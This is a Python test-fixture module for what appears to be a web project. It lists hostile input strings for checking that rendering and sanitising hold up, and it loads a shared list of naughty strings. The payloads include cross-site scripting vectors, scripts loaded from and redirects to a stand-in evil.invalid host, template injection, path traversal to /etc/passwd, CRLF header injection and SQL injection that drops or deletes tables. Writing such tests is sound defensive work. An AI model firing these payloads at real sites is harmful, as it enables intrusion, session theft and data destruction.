"""Strings that break libraries: our own, always there, and the shared list of naughty ones, where it is."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.judges.site import ROOT

# Each would set `window.pwned`, ask another server or end something early, if anything let it.
OWN: tuple[str, ...] = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea></style></noscript><script>window.pwned=1</script>",
    '<script src="https://evil.invalid/a.js"></script>',
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1' x='",
    '" onfocus="window.pwned=1" autofocus="" x="',
    '<a href="javascript:window.pwned=1">link</a>',
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "[a](javascript:window.pwned=1)",
    "![a](javascript:window.pwned=1)",
    '[a](https://e.invalid "x" onclick=window.pwned=1)',
    "<javascript:window.pwned=1>",
    '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
    '<svg><animate attributeName="href" values="javascript:window.pwned=1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    '<math><a xlink:href="javascript:window.pwned=1">x</a></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.pwned=1</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    '<base href="https://evil.invalid/"><link rel=stylesheet href="https://evil.invalid/a.css">',
    '<form action="https://evil.invalid/"><input name=q autofocus onfocus=window.pwned=1>',
    '<p style="background:url(https://evil.invalid/a.png);position:fixed">styled</p>',
    "<!-- --><img src=x onerror=window.pwned=1> -->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "$\\href{javascript:window.pwned=1}{x}$ $\\text{<img src=x onerror=window.pwned=1>}$",
    "$\\unicode{x3c}script\\unicode{x3e}$ $$\\frac{1$$ $\\begin{array}$",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__}",
    "%s %d %n %(name)s %(undefined)d %",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd%00.png",
    "a\r\nSet-Cookie: pwned=1\r\nLocation: https://evil.invalid/",
    "' OR '1'='1'; DROP TABLE work; --",
    '"; DELETE FROM block_text WHERE "1"="1',
    "\u202eevil\u202c \u2066isolated \u200f\u200e\ufeff \u061c",
    "Z̸̢̡̛̩̼̙͙̈́̾͝a̴̧̦͉̿͐l̶̰̀͊g̵̨͙̈́͘o̷͇͌ " + "e" + "\u0301" * 200,
    "before\x00after",
    "before\x1b[31m\x07after\x7f\x9f",
    "\ud800 \udfff \udcff".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "\ufffe\uffff\U0010ffff\u2028\u2029",
    "🏳️‍🌈👩🏽‍🔧🇹🇿 ﷽ Ⅷ ½ ＜script＞ ‮ ",
    "a" * 100_000,
    "([{" * 900,
    "*_`~^[]()<>|\\#+-.!:$@" * 40,
    "> " * 400 + "deep",
    "- " * 400 + "deep",
    "[^1] [^1]: [^1] [^]: !!! danger\n\n    !!! note",
    "|a|b|\n|-|-|\n|<b onclick=window.pwned=1>|" + "c|" * 300,
    "x <!-- block: x origin=machine --> <!-- block: x",
    "NaN Infinity -0 1e309 0x7fffffff 9223372036854775808 -9223372036854775809",
)

_DEFAULT = ROOT.parent / "shared"


def naughty() -> list[str] | None:
    """The shared list of naughty strings; None where this machine does not have it."""
    folder = Path(os.environ.get("MORTISE_SHARED") or _DEFAULT)
    file = folder / "data" / "hostile" / "blns.json"
    if not file.is_file():
        return None
    return [str(one) for one in json.loads(file.read_text(encoding="utf-8"))]


ABSENT = "The shared list of naughty strings is not here: set MORTISE_SHARED to the shared folder."
